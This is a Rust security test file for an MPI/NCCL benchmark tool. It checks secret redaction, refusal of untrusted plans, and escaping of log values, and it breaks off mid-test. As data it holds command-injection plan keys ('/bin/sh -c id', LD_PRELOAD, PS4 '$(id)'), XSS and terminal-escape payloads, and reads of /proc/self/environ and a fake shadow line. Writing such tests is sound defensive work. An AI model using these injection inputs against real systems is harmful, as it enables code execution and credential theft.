//! Plans and logs from strangers are data (issue #16): recorded environments never hold secrets,
//! a plan runs nothing unless trusted, reports escape what came from input, every read is
//! bounded, and ingest is linear.

use crate::common;

use std::path::Path;

use common::*;

/// The secrets the issue found published, each as (name, value).
const SECRETS: &[(&str, &str)] = &[
    ("NVIDIA_API_KEY", "nvapi-s3cr3t-1"),
    ("UCX_PASSWORD", "s3cr3t-ucx-2"),
    ("OMPI_MCA_btl_tcp_password", "s3cr3t-mca-3"),
    ("CUDA_UPLOAD_TOKEN", "s3cr3t-tok-4"),
    ("SLURM_JOB_COMMENT", "s3cr3t-comment-5"),
];

/// Every file under `dir`, asserted free of every secret value.
fn no_secret_under(dir: &Path) {
    let mut n = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            no_secret_under(&path);
            continue;
        }
        let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
        for (_, v) in SECRETS {
            assert!(!text.contains(v), "{v} in {}:\n{text}", path.display());
        }
        n += 1;
    }
    assert!(n > 0, "nothing written under {}", dir.display());
}

#[test]
fn run_records_no_secret_of_its_environment() {
    let ran = run_plan(
        "trust-run-secrets",
        "version: 1\nname: s\nbackend: mpi\nlaunch: { nodes: 1, ranks_per_node: 2 }\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n",
        &[SECRETS, &[("NCCL_DEBUG_SUBSYS", "INIT")]].concat(),
    );
    assert_eq!(code(&ran.output), 0, "{}", show(&ran.output));
    no_secret_under(&ran.out);
    let r = results(&ran.out.join("results.json"));
    let v = &r.environment.variables;
    assert!(!v.contains_key("NVIDIA_API_KEY"), "not allow-listed: {v:?}");
    assert_eq!(v["UCX_PASSWORD"].as_str(), "<redacted>");
    assert_eq!(v["OMPI_MCA_btl_tcp_password"].as_str(), "<redacted>");
    assert_eq!(v["CUDA_UPLOAD_TOKEN"].as_str(), "<redacted>");
    assert!(!v.contains_key("SLURM_JOB_COMMENT"), "not allow-listed");
    assert_eq!(v["NCCL_DEBUG_SUBSYS"].as_str(), "INIT");
    let junit = read(&ran.out.join("junit.xml"));
    assert!(!junit.contains("env.NVIDIA_API_KEY"), "{junit}");
    assert!(junit.contains("env.NCCL_DEBUG_SUBSYS"), "{junit}");
}

/// A plan may set a secret for its jobs (a UCX or MPI password): the results record it redacted,
/// and the run still grades as its own (it failed "measured with other parameters … env").
#[test]
fn a_plan_that_sets_a_secret_grades_its_own_run() {
    let ran = run_plan(
        "trust-plan-secret",
        "version: 1\nname: s\nbackend: mpi\nlaunch: { nodes: 1, ranks_per_node: 2 }\nenv:\n  UCX_PASSWORD: s3cr3t-ucx-2\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n",
        &[],
    );
    assert_eq!(code(&ran.output), 0, "{}", show(&ran.output));
    assert!(
        !show(&ran.output).contains("other parameters"),
        "{}",
        show(&ran.output)
    );
    let r = results(&ran.out.join("results.json"));
    assert_eq!(r.jobs[0].env["UCX_PASSWORD"], "<redacted>");
    let regrade = baton(&["grade", p(&ran.plan), p(&ran.out.join("results.json"))]);
    assert_eq!(code(&regrade), 0, "{}", show(&regrade));
}

/// An nccl-tests JSON log whose `env` carries every secret.
fn log_with_secrets(dir: &Path) -> std::path::PathBuf {
    let doc = read(&fixture("all_gather.json"));
    let env: Vec<String> = SECRETS
        .iter()
        .map(|(k, v)| format!("\"{k}={v}\""))
        .collect();
    let doc = doc.replacen("\"env\":[", &format!("\"env\":[{},", env.join(",")), 1);
    write(dir, "secrets.json", &doc)
}

#[test]
fn ingest_and_grade_record_no_secret_of_a_log() {
    let d = tmp("trust-ingest-secrets");
    let log = log_with_secrets(&d);
    let res = ingest(&d, "res.json", &[&log], None);
    let plan = two_gpu_plan(
        &d,
        "p.yaml",
        "  - name: allgather\n    collective: all_gather\n    sizes: { from: 8, to: 1G, factor: 4 }\n",
    );
    let rep = d.join("report");
    let o = baton(&[
        "grade",
        p(&plan),
        p(&res),
        "--junit",
        p(&d.join("junit.xml")),
        "--report",
        p(&rep),
    ]);
    assert!(code(&o) <= 1, "{}", show(&o));
    assert!(stdout(&o).len() + stderr(&o).len() > 0);
    for (_, v) in SECRETS {
        assert!(!stdout(&o).contains(v), "{}", show(&o));
    }
    no_secret_under(&d.join("report"));
    for f in ["res.json", "junit.xml"] {
        let text = read(&d.join(f));
        for (_, v) in SECRETS {
            assert!(!text.contains(v), "{v} in {f}");
        }
    }
}

#[test]
fn old_results_files_with_secrets_are_redacted_when_read_and_reported() {
    let d = tmp("trust-old-results");
    let clean = ingest(&d, "clean.json", &[&fixture("all_gather.json")], None);
    let mut text = read(&clean);
    let vars: Vec<String> = SECRETS
        .iter()
        .map(|(k, v)| format!("\"{k}\": \"{v}\""))
        .collect();
    let at = text.find("\"variables\": {").expect("variables in results");
    text.insert_str(
        at + "\"variables\": {".len(),
        &format!("{},", vars.join(",")),
    );
    // The job's own env too (what the plan set: any name, but never a secret's value).
    let at = text.find("\"env\": {").expect("job env in results");
    text.insert_str(
        at + "\"env\": {".len(),
        &format!("{},", vars[..4].join(",")),
    );
    let old = write(&d, "old.json", &text);
    let r = results(&old);
    let v = &r.environment.variables;
    assert_eq!(v["UCX_PASSWORD"], "<redacted>");
    assert!(!v.contains_key("NVIDIA_API_KEY") && !v.contains_key("SLURM_JOB_COMMENT"));
    assert_eq!(r.jobs[0].env["UCX_PASSWORD"], "<redacted>");
    let plan = two_gpu_plan(
        &d,
        "p.yaml",
        "  - name: allgather\n    collective: all_gather\n    sizes: { from: 8, to: 1G, factor: 4 }\n",
    );
    let rep = d.join("report");
    let o = baton(&["report", p(&plan), p(&old), "-o", p(&rep)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let base = d.join("base.json");
    let o = baton(&["baseline", "save", p(&old), "-o", p(&base)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    std::fs::remove_file(&old).unwrap();
    std::fs::remove_file(&clean).unwrap();
    no_secret_under(&d);
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(p(path)).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[test]
fn devices_and_fifos_are_refused_by_every_reader_without_hanging() {
    let d = tmp("trust-special-files");
    let fifo = d.join("fifo");
    mkfifo(&fifo);
    let plan = two_gpu_plan(&d, "p.yaml", ALLREDUCE_SWEEP);
    let good = ingest(&d, "good.json", &[&fixture("all_reduce.txt")], None);
    let out = d.join("o.json");
    for special in ["/dev/zero", "/dev/urandom", p(&fifo)] {
        let cases: Vec<Vec<&str>> = vec![
            vec!["check", special],
            vec!["expand", special],
            vec!["ingest", special, "-o", p(&out)],
            vec!["grade", p(&plan), special],
            vec!["grade", p(&plan), p(&good), "--baseline", special],
            vec!["baseline", "save", special, "-o", p(&out)],
        ];
        for args in cases {
            let o = baton_bounded(&args);
            assert!(
                matches!(code(&o), 2 | 3),
                "{args:?} must fail cleanly: {}",
                show(&o)
            );
            assert!(
                stderr(&o).contains("not a regular file"),
                "{args:?}: {}",
                show(&o)
            );
        }
    }
    assert!(!out.exists());
}

/// A debug log of a large run: `ranks` `# Rank` lines (each listed twice, as a broken MPI wire-up
/// prints them), then `links` distinct transport lines, each printed from both ends.
fn big_debug_log(ranks: u64, links: u64) -> String {
    let mut s = String::from(
        "# Collective test starting: all_reduce_perf\n# nThread 1 nGpus 1 minBytes 8 maxBytes 1024 step: 2(factor) warmup iters: 1 iters: 20 agg iters: 1 validation: 1 graph: 0\n# Using devices\n",
    );
    for _ in 0..2 {
        for r in 0..ranks {
            s.push_str(&format!(
                "#  Rank {r:5} Group {:2} Pid {:6} on node{:04} device  {} [0000:18:00] NVIDIA H200\n",
                r % 2,
                1000 + r,
                r / 8,
                r % 8
            ));
        }
    }
    for k in 0..links * 2 {
        let l = k / 2;
        let (from, to) = (l % ranks, (l / ranks + l + 1) % ranks);
        s.push_str(&format!(
            "node{:04}:{}:1 [{}] NCCL INFO Channel {:02}/0 : {from}[{}] -> {to}[{}] via NET/IB/0\n",
            from / 8,
            1000 + from,
            from % 8,
            l % 32,
            from % 8,
            to % 8
        ));
    }
    s.push_str("       8             2     float     sum      -1    10.00    0.00    0.00      0    10.00    0.00    0.00      0\n");
    s.push_str("# Out of bounds values : 0 OK\n");
    s
}

#[test]
fn ingest_is_linear_in_the_lines_of_a_log() {
    // A correctness bound, not a benchmark (scripts/bench-ingest is): quadratic ingest took
    // minutes on this log (40k `# Rank` lines, 200k transport lines), linear takes seconds even
    // in a debug build on a loaded machine.
    let d = tmp("trust-linear-ingest");
    let log = write(&d, "big.txt", &big_debug_log(20_000, 100_000));
    let t = std::time::Instant::now();
    let o = baton_bounded(&["ingest", p(&log), "-o", p(&d.join("r.json"))]);
    let took = t.elapsed();
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(took < std::time::Duration::from_secs(30), "took {took:?}");
    let r = results(&d.join("r.json"));
    assert_eq!(r.jobs[0].transports.len(), 100_000);
    assert_eq!(r.jobs[0].layout.nranks, 20_000);
    let warned = stderr(&o).matches("is listed twice").count();
    assert_eq!(warned, 10, "ten warnings, not 20,000");
}

/// A text log whose host, GPU name and file name carry markup and terminal escapes, and a JSON
/// log whose variables do: what a vendor could send.
fn hostile_logs(d: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let text = read(&fixture("all_reduce.txt"))
        .replace(
            "on         vm device",
            "on x`<img/src=x/onerror=alert(1)>`|<script>h</script> device",
        )
        .replace(
            "NVIDIA H200",
            "NVIDIA <script>alert(2)</script> ``<b>bold</b>`` \u{1b}[2J\u{1b}[1;1HPASS\r",
        );
    let name = "ar`<img src=x onerror=alert(3)>`\u{1b}[31m.txt";
    let log = write(d, name, &text);
    let json = read(&fixture("all_gather.json")).replacen(
        "\"env\":[",
        "\"env\":[\"NCCL_ALGO=<script>alert(4)</script>`<img src=x onerror=alert(5)>`\\u001b[2J\\u001b[1;1HPASS\",",
        1,
    );
    (log, write(d, "ag.json", &json))
}

#[test]
fn markdown_report_renders_every_input_value_as_text() {
    let d = tmp("trust-markdown");
    let (log, json) = hostile_logs(&d);
    let res = ingest(&d, "res.json", &[&log, &json], None);
    let plan = two_gpu_plan(
        &d,
        "p.yaml",
        &format!(
            "{ALLREDUCE_SWEEP}  - name: allgather\n    collective: all_gather\n    sizes: {{ from: 8, to: 1G, factor: 4 }}\n"
        ),
    );
    let rep = d.join("report");
    let o = baton(&["report", p(&plan), p(&res), "-o", p(&rep)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let md = read(&rep.join("report.md"));
    assert!(md.contains("alert(1)") && md.contains("alert(4)"), "{md}");
    // Rendered as CommonMark with GitHub's tables, no value becomes an element or attribute.
    let mut opts = pulldown_cmark::Options::empty();
    opts.insert(pulldown_cmark::Options::ENABLE_TABLES);
    opts.insert(pulldown_cmark::Options::ENABLE_STRIKETHROUGH);
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new_ext(&md, opts));
    // (The report's own `<img>` is its chart.)
    for bad in ["<script", "<img src=x", "<img/src", "<b>", "\u{1b}"] {
        assert!(!html.contains(bad), "{bad} in the rendered report:\n{html}");
    }
    assert!(html.contains("&lt;script&gt;alert(2)"), "{html}");
    assert!(
        html.contains("&lt;img/src=x/onerror=alert(1)&gt;"),
        "{html}"
    );
    // Every table row keeps its column count: no `|` from input split a cell.
    for table in md.split("\n\n").filter(|b| b.starts_with('|')) {
        let cols = |l: &str| l.replace("\\|", "").matches('|').count();
        let first = cols(table.lines().next().unwrap());
        for l in table.lines() {
            assert_eq!(cols(l), first, "{l}\nin\n{table}");
        }
    }
}

#[test]
fn terminal_output_shows_control_characters_instead_of_obeying_them() {
    let d = tmp("trust-terminal");
    let (log, json) = hostile_logs(&d);
    let res = d.join("res.json");
    let plan = two_gpu_plan(&d, "p.yaml", ALLREDUCE_SWEEP);
    let esc_plan = write(
        &d,
        "m.yaml",
        "version: 1\nname: m\nbackend: mpi\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n    matrix:\n      env:\n        - { NCCL_ALGO: \"\\e[2J\\e[1;1HPASS\\r\\u009b31m\" }\n        - { NCCL_ALGO: Ring }\n",
    );
    let runs = [
        baton(&["ingest", p(&log), p(&json), "-o", p(&res)]),
        baton(&["grade", p(&plan), p(&res)]),
        baton(&["expand", p(&esc_plan)]),
        baton(&["expand", p(&esc_plan), "--format", "json"]),
        baton(&["check", p(&esc_plan)]),
    ];
    for o in &runs {
        for stream in [&o.stdout, &o.stderr] {
            let s = String::from_utf8_lossy(stream);
            assert!(
                !s.contains(['\u{1b}', '\r', '\u{9b}']),
                "raw control character in {s:?}"
            );
        }
    }
    let shown: String = runs.iter().map(show).collect();
    assert!(shown.contains("\\u001b[2J"), "{shown}");
    let doc: serde_json::Value = serde_json::from_slice(&runs[3].stdout).expect("valid JSON");
    assert!(doc.to_string().contains("PASS"), "{doc}");
}

/// A plan from a stranger: every key the issue found that runs or chooses a program.
const EVIL_PLAN: &str = r#"version: 1
name: evil
backend: mpi
launch:
  nodes: 1
  ranks_per_node: 2
  mpirun: { extra: ["/bin/sh", "-c", "id > /tmp/baton-pwned", "sh"] }
  slurm: { step: ["--task-prolog=/tmp/evil.sh"], container_image: "evil#img", container_env: [PATH] }
  setup: ["id > /tmp/baton-pwned"]
  baton: /tmp/evil/baton
env: { PATH: /tmp/evil, LD_PRELOAD: /tmp/evil.so, LD_LIBRARY_PATH: /tmp, BASH_ENV: /tmp/x, IFS: "/", PS4: "$(id)", PROMPT_COMMAND: id }
tests:
  - name: t
    collective: all_reduce
    sizes: [1K]
"#;

#[test]
fn a_plan_is_data_unless_trusted() {
    let d = tmp("trust-plan-data");
    let plan = write(&d, "evil.yaml", EVIL_PLAN);
    let out = d.join("out");
    for args in [
        vec!["check", p(&plan)],
        vec!["expand", p(&plan)],
        vec!["render", p(&plan), "-t", "mpirun,srun,slurm", "-o", p(&out)],
        vec!["run", p(&plan), "-o", p(&out)],
    ] {
        let o = baton(&args);
        assert_eq!(code(&o), 2, "{args:?} must refuse: {}", show(&o));
        let e = stderr(&o);
        for why in [
            "`launch.mpirun.extra` item `/bin/sh` is not a vetted mpirun option",
            "`launch.mpirun.extra` item `id > /tmp/baton-pwned` is not a vetted mpirun option",
            "`env` sets `PATH`, which chooses which programs run",
            "`env` sets `LD_PRELOAD`, which loads a library into every program",
            "`env` sets `LD_LIBRARY_PATH`",
            "`env` sets `BASH_ENV`, which names a script every bash runs first",
            "`env` sets `IFS`",
            "`env` sets `PS4`",
            "`env` sets `PROMPT_COMMAND`",
            "`launch.slurm.step` item `--task-prolog=/tmp/evil.sh` is not a vetted",
            "`launch.slurm.container_env` replaces the image's variables",
            "`launch.setup` is shell that every script runs before its steps",
            "`launch.baton` `/tmp/evil/baton` chooses the program every rank runs",
            "pass --trust-plan to allow this",
        ] {
            assert!(e.contains(why), "{args:?}: no {why:?} in\n{e}");
        }
        if args[0] == "run" {
            // Only the junit.xml that tells CI why, written by baton: nothing of the plan ran.
            let written: Vec<String> = std::fs::read_dir(&out)
                .unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            assert_eq!(written, ["junit.xml"], "{args:?}");
            let junit = read(&out.join("junit.xml"));
            assert!(junit.contains("not a vetted mpirun option"), "{junit}");
        } else {
            assert!(!out.exists(), "{args:?} wrote {}", out.display());
        }
    }
    // The user may vouch for it.
    let o = baton(&["check", "--trust-plan", p(&plan)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let o = baton(&[
        "--trust-plan",
        "render",
        p(&plan),
        "-t",
        "mpirun",
        "--dry-run",
    ]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(stdout(&o).contains("run \"$plan\" --trust-plan --env-set 0"));
}

#[test]
fn vetted_launch_options_and_variables_need_no_trust() {
    let d = tmp("trust-plan-vetted");
    let plan = write(
        &d,
        "ok.yaml",
        "version: 1\nname: ok\nbackend: mpi\nlaunch:\n  slurm: { extra: [\"--qos=high\", \"-Ch200\", \"--exclusive\"] }\n  mpirun: { extra: [\"--bind-to\", \"numa\", \"--mca\", \"btl\", \"^openib\", \"--map-by=ppr:4:node\", \"--oversubscribe\"] }\nenv: { NCCL_ALGO: Ring, OMPI_MCA_btl_tcp_if_include: eth0, UCX_TLS: rc, PATHS: x }\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n",
    );
    let o = baton(&["check", p(&plan)]);
    assert_eq!(
        code(&o),
        2,
        "--exclusive as an extra is not vetted: {}",
        show(&o)
    );
    assert!(
        stderr(&o).contains("`--exclusive` is not a vetted scheduling"),
        "{}",
        show(&o)
    );
    let fixed = read(&plan).replace(", \"--exclusive\"", "");
    let plan = write(&d, "ok.yaml", &fixed);
    let o = baton(&["check", p(&plan)]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    for (key, value) in [
        ("OMPI_MCA_plm_rsh_agent", "/tmp/evil"),
        ("OMPI_MCA_orte_launch_agent", "/tmp/evil"),
        ("NCCL_NET_PLUGIN", "/tmp/evil.so"),
        ("LD_AUDIT", "/tmp/evil.so"),
    ] {
        let text = fixed.replace("NCCL_ALGO: Ring", &format!("{key}: {value}"));
        let plan = write(&d, "bad.yaml", &text);
        let o = baton(&["check", p(&plan)]);
        assert_eq!(code(&o), 2, "{key}: {}", show(&o));
        assert!(
            stderr(&o).contains(&format!("sets `{key}`")),
            "{}",
            show(&o)
        );
    }
    for extra in [
        "\"--mca\", \"plm_rsh_agent\", \"/tmp/evil\"",
        "\"-x\", \"LD_PRELOAD=/tmp/evil.so\"",
        "\"--bind-to\", \"$(id)\"",
        "\"--prefix\", \"/tmp/evil\"",
        "\"--launch-agent\", \"/tmp/evil\"",
    ] {
        let text = fixed.replace("\"--oversubscribe\"", extra);
        let plan = write(&d, "bad.yaml", &text);
        let o = baton(&["check", p(&plan)]);
        assert_eq!(code(&o), 2, "{extra}: {}", show(&o));
    }
    for extra in [
        "--export=ALL,LD_PRELOAD=/x",
        "--task-prolog=/tmp/evil",
        "--chdir=/tmp",
        "--output=/root/.bashrc",
    ] {
        let text = fixed.replace("\"--qos=high\"", &format!("\"{extra}\""));
        let plan = write(&d, "bad.yaml", &text);
        let o = baton(&["check", p(&plan)]);
        assert_eq!(code(&o), 2, "{extra}: {}", show(&o));
    }
}

/// What a CI job's environment holds, as the secret a plan must never print.
const CI_TOKEN: (&str, &str) = ("CI_JOB_TOKEN", "glpat-S3CR3T-f1");

/// Every output of a command and every file it wrote, asserted free of `secret`.
fn nothing_shows(o: &std::process::Output, files: &[&Path], secret: &str) {
    assert!(!show(o).contains(secret), "{secret} printed: {}", show(o));
    fn walk(f: &Path, secret: &str) {
        if f.is_dir() {
            for e in std::fs::read_dir(f).unwrap() {
                walk(&e.unwrap().path(), secret);
            }
        } else if f.exists() {
            let t = String::from_utf8_lossy(&std::fs::read(f).unwrap()).into_owned();
            assert!(!t.contains(secret), "{secret} in {}", f.display());
        }
    }
    for f in files {
        walk(f, secret);
    }
}

/// Issue #20 F1: a plan's `profile:` pointing at a file that is not a profile — the CI job's
/// environment, a password file, a link in `profiles/` — never prints what the file holds:
/// not in `check`, not in the criterion message of `grade`, its junit.xml, report or verdict
/// JSON. A profile that does not parse is named by path, line and column only.
#[test]
fn a_profile_that_is_not_one_shows_none_of_its_text() {
    let d = tmp("trust_f1");
    let r = ingest(
        &d,
        "r.json",
        &[&fixture("all_reduce.txt")],
        Some("allreduce"),
    );
    let plan = |name: &str, profile: &str| {
        write(
            &d,
            name,
            &format!(
                "version: 1\nname: leak\nbackend: nccl\nprofile: {profile}\nlaunch: {{ nodes: 1, ranks_per_node: 2 }}\n\
                 tests:\n{ALLREDUCE_SWEEP}    expect: [ {{ busbw: \">= 90% of profile\" }} ]\n"
            ),
        )
    };
    let grade_all = |pl: &Path, secret: &str| {
        let (junit, report) = (d.join("j.xml"), d.join("report"));
        let _ = std::fs::remove_dir_all(&report);
        let o = baton_env(
            &[
                "grade",
                p(pl),
                p(&r),
                "--junit",
                p(&junit),
                "--report",
                p(&report),
                "--format",
                "json",
            ],
            &[CI_TOKEN],
        );
        assert_eq!(code(&o), 1, "the criterion fails closed: {}", show(&o));
        nothing_shows(&o, &[&junit, &report], secret);
        o
    };
    // The job's environment, by absolute path and through a link beside the plan; trusted or not.
    std::os::unix::fs::symlink("/proc/self/environ", d.join("env.yaml")).unwrap();
    for profile in ["/proc/self/environ", "env.yaml"] {
        let pl = plan("environ.yaml", profile);
        for trust in [&[][..], &["--trust-plan"][..]] {
            let mut args = trust.to_vec();
            args.extend(["check", p(&pl)]);
            let o = baton_env(&args, &[CI_TOKEN]);
            assert_eq!(code(&o), 2, "{}", show(&o));
            nothing_shows(&o, &[], CI_TOKEN.1);
            assert!(stderr(&o).contains("/proc"), "{}", show(&o));
        }
        grade_all(&pl, CI_TOKEN.1);
    }
    // A file beside the plan that is YAML but no profile (a password file, say): its position
    // only, never the unknown key the parser would quote.
    write(
        &d,
        "shadow.yaml",
        "root:$6$s3cr3t-hash$x:19000:0:99999:7:::\nname: x\n",
    );
    let pl = plan("shadow-plan.yaml", "shadow.yaml");
    let o = baton(&["check", p(&pl)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    nothing_shows(&o, &[], "s3cr3t-hash");
    assert!(
        stderr(&o).contains("shadow.yaml") && stderr(&o).contains("line 1"),
        "{}",
        show(&o)
    );
    let o = grade_all(&pl, "s3cr3t-hash");
    assert!(stdout(&o).contains("line 1"), "{}", show(&o));
    // Outside the plan's directory, or not `.yaml`: refused before reading.
    let outside = tmp("trust_f1_outside");
    write(&outside, "p.yaml", "root:s3cr3t-out:0\n");
    write(&d, "notes.txt", "s3cr3t-txt\n");
    for profile in [
        p(&outside.join("p.yaml")),
        "../trust_f1_outside/p.yaml",
        "notes.txt",
    ] {
        let pl = plan("out.yaml", profile);
        let o = baton(&["check", p(&pl)]);
        assert_eq!(code(&o), 2, "{profile}: {}", show(&o));
        nothing_shows(&o, &[], "s3cr3t");
    }
    // A link in the plan's profiles/ that leaves it.
    std::fs::create_dir_all(d.join("profiles")).unwrap();
    std::os::unix::fs::symlink(outside.join("p.yaml"), d.join("profiles/evil.yaml")).unwrap();
    let pl = plan("evil.yaml", "evil");
    let o = baton(&["check", p(&pl)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    nothing_shows(&o, &[], "s3cr3t");
    assert!(stderr(&o).contains("evil.yaml"), "{}", show(&o));
}

/// Issue #20 F5: files a plan names stay beside it. A hostfile outside the plan's directory
/// (a token file, the job's environment) is refused before it is read, so no token-shaped word
/// is printed as a host; the user may name it (`--hostfile`) or trust the plan; `/proc`, `/sys`
/// and `/dev` never. Baselines, history stores and `relative` results follow the same rule.
#[test]
fn plan_files_stay_inside_the_plan_directory() {
    let d = tmp("trust_f5");
    let token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9.S3CR3T-sig";
    let tok = write(&d, "tok", &format!("{token}\n"));
    std::fs::create_dir_all(d.join("plan")).unwrap();
    let plan = |hostfile: &str| {
        write(
            &d.join("plan"),
            "p.yaml",
            &format!(
                "version: 1\nname: f5\nbackend: mpi\nlaunch: {{ ranks_per_node: 1 }}\nnodes: {{ hostfile: {hostfile} }}\n\
                 tests:\n  - name: a\n    over: each-node\n    collective: all_reduce\n    sizes: [8]\n    expect: [ {{ wrong: 0 }} ]\n"
            ),
        )
    };
    for hostfile in [p(&tok), "../tok"] {
        let pl = plan(hostfile);
        for cmd in ["check", "expand"] {
            let o = baton(&[cmd, p(&pl)]);
            assert_eq!(code(&o), 2, "{cmd} {hostfile}: {}", show(&o));
            nothing_shows(&o, &[], "S3CR3T");
            assert!(stderr(&o).contains("--hostfile"), "{}", show(&o));
        }
        // The user's own choice, or a plan they vouch for.
        let o = baton(&["check", p(&pl), "--hostfile", p(&tok)]);
        assert_eq!(code(&o), 0, "{}", show(&o));
        assert!(stdout(&o).contains("--hostfile"), "{}", show(&o));
        let o = baton(&["--trust-plan", "check", p(&pl)]);
        assert_eq!(code(&o), 0, "{}", show(&o));
    }
    let pl = plan("/proc/self/environ");
    let o = baton_env(&["--trust-plan", "check", p(&pl)], &[CI_TOKEN]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    nothing_shows(&o, &[], CI_TOKEN.1);
    // A hostfile beside the plan that is not one: the line, not its words.
    write(&d.join("plan"), "hosts", "n1\nS3CR3T[abc-xyz]\nn2\n");
    let o = baton(&["check", p(&plan("hosts"))]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert!(stderr(&o).contains("line 2"), "{}", show(&o));
    nothing_shows(&o, &[], "abc-xyz");
    // Baseline, history and relative results: outside the directory, refused with why.
    let r = ingest(
        &d,
        "r.json",
        &[&fixture("all_reduce.txt")],
        Some("allreduce"),
    );
    std::fs::copy(&r, d.join("plan/r.json")).unwrap();
    let store = d.join("h.sqlite");
    assert_eq!(
        code(&baton(&["history", "add", p(&r), "--store", p(&store)])),
        0
    );
    let graded = write(
        &d.join("plan"),
        "g.yaml",
        &format!(
            "version: 1\nname: g\nbackend: nccl\nbaseline: ../r.json\nhistory: ../h.sqlite\nlaunch: {{ nodes: 1, ranks_per_node: 2 }}\n\
             tests:\n{ALLREDUCE_SWEEP}    expect:\n      - regression: \"<= 5%\"\n      - trend: \"<= 5% below the median of the last 3 runs\"\n      \
             - relative: {{ to: allreduce, busbw: \">= 90%\", results: ../r.json }}\n"
        ),
    );
    // `check` says so before any grading.
    let o = baton(&["check", p(&graded)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert_eq!(stderr(&o).matches("is outside").count(), 3, "{}", show(&o));
    assert_eq!(code(&baton(&["--trust-plan", "check", p(&graded)])), 0);
    let o = baton(&["grade", p(&graded), p(&r)]);
    assert_eq!(code(&o), 1, "{}", show(&o));
    let out = stdout(&o);
    for key in [
        "baseline: ../r.json",
        "history: ../h.sqlite",
        "relative.results: ../r.json",
    ] {
        assert!(out.contains(&format!("`{key}` is outside")), "{key}: {out}");
    }
    // Named by the user, the same files grade (relative results have no flag: trust the plan).
    let o = baton(&[
        "grade",
        p(&graded),
        p(&r),
        "--baseline",
        p(&r),
        "--history",
        p(&store),
    ]);
    let out = stdout(&o);
    assert!(!out.contains("`baseline: ../r.json` is outside"), "{out}");
    assert!(!out.contains("`history: ../h.sqlite` is outside"), "{out}");
    let o = baton(&["--trust-plan", "grade", p(&graded), p(&r)]);
    assert!(!stdout(&o).contains("is outside"), "{}", show(&o));
    assert!(
        stdout(&o).contains("no earlier completed run"),
        "the store was read: {}",
        show(&o)
    );
}

/// Issue #20 F5 in `render`: a rendered script hands the plan's `baseline:` to its `grade` as
/// `--baseline`, the user's own choice, which the plan-relative rule does not judge; so render
/// judges it: outside the plan's directory it is refused (exit 2, with why), unless trusted.
#[test]
fn render_refuses_a_baseline_outside_the_plan_directory() {
    let d = tmp("trust_f5_render");
    std::fs::create_dir_all(d.join("plan")).unwrap();
    let plan = write(
        &d.join("plan"),
        "p.yaml",
        &format!(
            "version: 1\nname: b\nbackend: nccl\nbaseline: ../r.json\nlaunch: {{ nodes: 1, ranks_per_node: 2 }}\n\
             tests:\n{ALLREDUCE_SWEEP}    expect:\n      - regression: \"<= 5%\"\n"
        ),
    );
    let out = d.join("job");
    let o = baton(&["render", p(&plan), "-t", "slurm", "-o", p(&out)]);
    assert_eq!(code(&o), 2, "{}", show(&o));
    assert!(
        stderr(&o).contains("`baseline: ../r.json` is outside"),
        "{}",
        show(&o)
    );
    assert!(!out.exists(), "nothing rendered");
    let o = baton(&[
        "--trust-plan",
        "render",
        p(&plan),
        "-t",
        "slurm",
        "-o",
        p(&out),
    ]);
    assert_eq!(code(&o), 0, "{}", show(&o));
}

// Issue #36 ("Trust, round three"), the findings of trust-a: 1, 5, 8, 12, 13, 16, 20, 21.

/// A plan with one small MPI test, for the site-file and `--set` cases below.
const SMALL_PLAN: &str = "version: 1\nname: s\nbackend: mpi\nlaunch: { nodes: 1, ranks_per_node: 2 }\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n";

/// The secrets a site file holds in the cases below; none may reach a diagnostic.
const SITE_SECRETS: &[&str] = &[
    "hunter2-db",
    "T0KEN-path",
    "q-t0ken",
    "s3cr3t-ucx",
    "s3cr3t-block",
];

fn quotes_no_site_secret(o: &std::process::Output) {
    let all = format!("{}{}", stdout(o), stderr(o));
    for s in SITE_SECRETS {
        assert!(!all.contains(s), "{s} shown:\n{all}");
    }
}

/// #36 finding 1: an error anywhere in a site file is shown with its neighbouring lines, and
/// those lines are shown through the one redaction (secret-named keys, URL userinfo, paths and
/// queries); a file that does not parse as YAML is named by line and column only.
#[test]
fn a_site_files_diagnostics_quote_none_of_its_secrets() {
    let d = tmp("trust-site-snippet");
    let plan = write(&d, "plan.yaml", SMALL_PLAN);
    let body = "  history: postgres://baton:hunter2-db@db.example/acceptance\n  notify: https://hooks.example/services/T0KEN-path?token=q-t0ken\nenv:\n  UCX_PASSWORD: s3cr3t-ucx\n  NCCL_IB_HCA: mlx5_0\n  MY_TOKEN: |\n    s3cr3t-block\n";
    // A typo in a key next to the secrets; a wrong type; an error on the notify line itself.
    for (name, text) in [
        (
            "typo.yaml",
            format!("site: 1\nlanch: {{}}\noutputs:\n{body}"),
        ),
        ("type.yaml", format!("site: 1\noutputs:\n{body}nodes: 3\n")),
        (
            "notify.yaml",
            format!(
                "site: 1\noutputs:\n  notify_within: 0\n{}",
                body.replacen("https://", "https://user:hunter2-db@", 1)
            ),
        ),
    ] {
        let site = write(&d, name, &text);
        for args in [
            vec!["check", p(&plan), "--site", p(&site)],
